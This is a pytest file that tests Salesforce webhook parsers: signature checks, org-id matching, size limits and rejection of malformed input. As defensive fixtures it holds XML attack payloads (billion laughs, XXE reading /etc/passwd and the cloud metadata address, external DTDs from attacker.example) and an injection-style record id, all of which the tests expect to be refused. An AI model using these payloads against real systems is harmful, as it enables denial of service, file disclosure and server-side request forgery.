"""The two Salesforce webhook parsers, without a service: formats, limits, identities."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime, timedelta

import pytest

from integrations.base import ConnectionContext, InboundRequest, WebhookRejected
from integrations.salesforce.webhooks import (
    MAX_WEBHOOK_BODY,
    OUTBOUND_ACK,
    SIGNATURE_HEADER,
    TIMESTAMP_HEADER,
    parse_outbound_message,
    parse_signed_json,
    sign_salesforce_json,
)

from .conftest import (
    ACCOUNT,
    OPP_1,
    OPP_2,
    ORG_15,
    ORG_ID,
    SECRET,
    Notification,
    json_events,
    notification_id,
    outbound_message,
)

NOW = datetime(2026, 11, 27, 7, 0, 5, tzinfo=UTC)
ACK = (
    b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
    b'<soapenv:Body><notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound">'
    b"<Ack>true</Ack></notificationsResponse></soapenv:Body></soapenv:Envelope>"
)


def context(org: str = ORG_ID) -> ConnectionContext:
    return ConnectionContext(
        connection_id="c1",
        provider="salesforce",
        external_account_id=org,
        instance_url="https://acme.my.salesforce.com",
        credentials={},
    )


def request(body: bytes, headers: dict[str, str] | None = None) -> InboundRequest:
    return InboundRequest("POST", "https://dealcoach.test/x", headers or {}, body, NOW)


def outbound(body: bytes, org: str = ORG_ID) -> list[tuple[str, str, str]]:
    parsed = parse_outbound_message(request(body), context(org), None)
    assert parsed.reply_body == OUTBOUND_ACK == ACK
    assert parsed.reply_content_type == "text/xml; charset=utf-8"
    return [(e.identity, e.deal_id, e.kind) for e in parsed.events]


def rejected(body: bytes, org: str = ORG_ID) -> int:
    with pytest.raises(WebhookRejected) as info:
        parse_outbound_message(request(body), context(org), None)
    return info.value.status


# ---------------------------------------------------------------- Outbound Messages


def test_one_event_per_notification_with_stable_identities() -> None:
    body = outbound_message(
        Notification(notification_id(1), OPP_1),
        Notification(notification_id(2), OPP_2, stage="Closed Won"),
    )
    events = outbound(body)
    assert [(deal, kind) for _, deal, kind in events] == [
        (OPP_1, "stage_change"),
        (OPP_2, "stage_change"),
    ]
    assert len({identity for identity, _, _ in events}) == 2
    # A redelivery has the same identities; so has the 15-character org id form.
    assert outbound(body) == events
    assert outbound(body, org=ORG_15) == events
    assert outbound(outbound_message(Notification(notification_id(1), OPP_1), org_id=ORG_15)) == [
        events[0]
    ]


def test_the_record_time_is_kept_when_the_message_carries_it() -> None:
    body = outbound_message(Notification(notification_id(1), OPP_1))
    parsed = parse_outbound_message(request(body), context(), None)
    assert parsed.events[0].occurred_at == datetime(2026, 11, 27, 7, 0, 1, tzinfo=UTC)


def test_other_objects_and_bad_ids_are_ignored_not_refused() -> None:
    body = outbound_message(
        Notification(notification_id(1), ACCOUNT, sobject_type="Account"),
        Notification(notification_id(2), "006' OR Name != '"),
        Notification(notification_id(3), OPP_1, sobject_type="Account"),
        Notification(notification_id(4), OPP_1[:15] + "ZZZ"),
        Notification(notification_id(5), OPP_2),
    )
    assert [(deal, kind) for _, deal, kind in outbound(body)] == [
        (ACCOUNT, "ignored"),
        ("", "ignored"),  # never keeps an unvalidated string as a deal id
        (OPP_1, "ignored"),  # an Opportunity id under another type: inconsistent
        ("", "ignored"),
        (OPP_2, "stage_change"),
    ]


def test_the_organization_must_be_the_connections() -> None:
    body = outbound_message(Notification(notification_id(1), OPP_1))
    assert rejected(body, org="00D5g000009OtHrAAA") == 403
    assert rejected(body, org="not-an-org-id") == 403
    assert rejected(outbound_message(Notification(notification_id(1), OPP_1), org_id="")) == 403


def test_up_to_100_notifications() -> None:
    hundred = [Notification(notification_id(n), OPP_1) for n in range(100)]
    assert len(outbound(outbound_message(*hundred))) == 100
    too_many = [*hundred, Notification(notification_id(100), OPP_1)]
    assert rejected(outbound_message(*too_many)) == 400
    assert rejected(outbound_message()) == 400


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<a><b></a>",
        b'<?xml version="1.0" encoding="x-unknown"?><a/>',
        b"<a>&undefined;</a>",
        b'{"events": []}',
        # Well-formed XML, but not an Outbound Message.
        b"<notifications/>",
        b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>',
        b'<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
        b"<soapenv:Body><notifications/></soapenv:Body></soapenv:Envelope>",
        outbound_message(Notification(notification_id(1), OPP_1))
        .replace(b"<Id>", b"<Nope>", 1)
        .replace(b"</Id>", b"</Nope>", 1),
        outbound_message(Notification(notification_id(1), OPP_1)).replace(b"sObject", b"record"),
    ],
)
def test_malformed_messages_are_refused(body: bytes) -> None:
    assert rejected(body) == 400


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""


def with_doctype(doctype: bytes, reference: bytes = b"") -> bytes:
    """A real Outbound Message with a DTD put in front and an entity reference inside."""
    body = outbound_message(Notification(notification_id(1), OPP_1))
    head, _, rest = body.partition(b"\n")
    return head + b"\n" + doctype + b"\n" + rest.replace(b"Acme &amp; Co", b"Acme " + reference)


HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "billion laughs in a message": with_doctype(
        BILLION_LAUGHS.split(b"\n", 1)[1].rsplit(b"\n", 1)[0].replace(b"lolz", b"soapenv:Envelope"),
        b"&lol9;",
    ),
    "quadratic blowup": with_doctype(
        b'<!DOCTYPE soapenv:Envelope [<!ENTITY a "' + b"x" * 50_000 + b'">]>', b"&a;" * 1000
    ),
    "plain DTD": with_doctype(b"<!DOCTYPE soapenv:Envelope>"),
    "external entity (file)": with_doctype(
        b'<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"
    ),
    "external entity (http)": with_doctype(
        b'<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "http://169.254.169.254/">]>',
        b"&xxe;",
    ),
    "external DTD": with_doctype(
        b'<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">'
    ),
    "parameter entity": with_doctype(
        b'<!DOCTYPE soapenv:Envelope [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_dtds_and_entities_are_refused_at_once(name: str) -> None:
    started = time.monotonic()
    assert rejected(HOSTILE[name]) == 400
    assert time.monotonic() - started < 0.5


def test_the_body_is_capped_before_parsing() -> None:
    body = outbound_message(Notification(notification_id(1), OPP_1))
    padded = body.replace(b"<soapenv:Body>", b"<soapenv:Body>" + b" " * MAX_WEBHOOK_BODY)
    assert rejected(padded) == 413
    assert rejected(BILLION_LAUGHS + b" " * MAX_WEBHOOK_BODY) == 413


# ---------------------------------------------------------------- signed JSON


def signed(body: bytes, at: datetime = NOW, secret: str = SECRET) -> InboundRequest:
    return request(body, sign_salesforce_json(body, secret, int(at.timestamp())))


def test_signed_json_events() -> None:
    body = json_events(("evt-1", OPP_1), ("evt-2", OPP_2[:15]), ("evt-3", ACCOUNT))
    parsed = parse_signed_json(signed(body), context(), SECRET)
    assert json.loads(parsed.reply_body) == {"received": 3}
    assert parsed.reply_content_type == "application/json"
    assert [(e.deal_id, e.kind) for e in parsed.events] == [
        (OPP_1, "stage_change"),
        (OPP_2[:15], "stage_change"),
        (ACCOUNT, "ignored"),
    ]
    assert parsed.events[0].occurred_at == datetime(2026, 11, 27, 7, 0, tzinfo=UTC)
    again = parse_signed_json(signed(body, NOW + timedelta(seconds=30)), context(), SECRET)
    assert [e.identity for e in again.events] == [e.identity for e in parsed.events]


def test_the_signature_is_hex_hmac_sha256_of_timestamp_dot_body() -> None:
    import hashlib
    import hmac

    headers = sign_salesforce_json(b'{"events":[]}', "s3cret", 1_790_000_000)
    expected = hmac.new(b"s3cret", b'1790000000.{"events":[]}', hashlib.sha256).hexdigest()
    assert headers == {SIGNATURE_HEADER: f"sha256={expected}", TIMESTAMP_HEADER: "1790000000"}


def status_of(inbound: InboundRequest, secret: str | None = SECRET) -> int:
    with pytest.raises(WebhookRejected) as info:
        parse_signed_json(inbound, context(), secret)
    return info.value.status


def test_signed_json_refusals() -> None:
    body = json_events(("evt-1", OPP_1))
    good = signed(body)
    assert status_of(good, secret=None) == 401
    assert status_of(good, secret="") == 401
    assert status_of(signed(body, secret="another secret")) == 401
    assert status_of(signed(body, NOW - timedelta(minutes=6))) == 401
    assert status_of(signed(body, NOW + timedelta(minutes=6))) == 401
    assert parse_signed_json(signed(body, NOW - timedelta(minutes=4)), context(), SECRET).events
    for header in (SIGNATURE_HEADER, TIMESTAMP_HEADER):
        headers = {k: v for k, v in good.headers.items() if k != header}
        assert status_of(request(body, headers)) == 401
    for stamp in ("-1", "1e9", "０", " ", "9" * 13):
        headers = {**good.headers, TIMESTAMP_HEADER: stamp}
        assert status_of(request(body, headers)) == 401
    headers = {**good.headers, SIGNATURE_HEADER: "sha256=é" + "0" * 63}
    assert status_of(request(body, headers)) == 401
    # Header names are case-insensitive.
    lower = {k.lower(): v for k, v in good.headers.items()}
    assert parse_signed_json(request(body, lower), context(), SECRET).events


@pytest.mark.parametrize(
    "payload",
    [
        b"not json",
        b"[]",
        b"{}",
        b'{"events": []}',
        b'{"events": {}}',
        b'{"events": [1]}',
        json.dumps({"events": [{"opportunityId": OPP_1, "stageName": "x"}]}).encode(),
        json.dumps(
            {"events": [{"id": "", "opportunityId": OPP_1, "stageName": "x", "occurredAt": "x"}]}
        ).encode(),
        json.dumps(
            {"events": [{"id": "e", "opportunityId": 6, "stageName": "x", "occurredAt": "x"}]}
        ).encode(),
        json.dumps(
            {"events": [{"id": "e", "opportunityId": OPP_1, "stageName": 1, "occurredAt": "x"}]}
        ).encode(),
        json.dumps(
            {
                "events": [
                    {"id": "e", "opportunityId": OPP_1, "stageName": "x", "occurredAt": "soon"}
                ]
            }
        ).encode(),
        json.dumps({"events": [{"id": "e" * 256, "opportunityId": OPP_1}]}).encode(),
        json_events(*[(f"e{n}", OPP_1) for n in range(201)]),
    ],
)
def test_malformed_signed_json_is_400_after_a_valid_signature(payload: bytes) -> None:
    assert status_of(signed(payload)) == 400
    # The same payload unsigned is 401: authenticity is checked first.
    assert status_of(request(payload)) == 401


def test_bad_opportunity_ids_in_signed_json_are_ignored() -> None:
    body = json_events(("e1", "006' OR Name != '"), ("e2", OPP_1[:15] + "AAA"), ("e3", OPP_1))
    parsed = parse_signed_json(signed(body), context(), SECRET)
    assert [(e.deal_id, e.kind) for e in parsed.events] == [
        ("", "ignored"),
        ("", "ignored"),
        (OPP_1, "stage_change"),
    ]


def test_the_signed_json_body_is_capped() -> None:
    body = b" " * (MAX_WEBHOOK_BODY + 1)
    assert status_of(signed(body)) == 413
